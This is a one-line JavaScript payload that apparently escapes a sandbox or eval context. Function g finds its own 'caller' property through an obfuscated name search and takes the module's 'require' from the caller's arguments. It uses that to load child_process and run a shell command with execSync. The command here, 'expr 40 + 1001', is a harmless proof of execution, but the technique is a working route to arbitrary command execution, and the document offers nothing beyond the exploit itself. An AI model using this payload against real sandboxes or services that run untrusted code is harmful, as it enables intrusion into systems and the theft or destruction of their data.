function g(){ const k=Object.getOwnPropertyNames(g).find(x=>x.length==6&&x[0]=='c'); return g[k].arguments[1] } g()('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
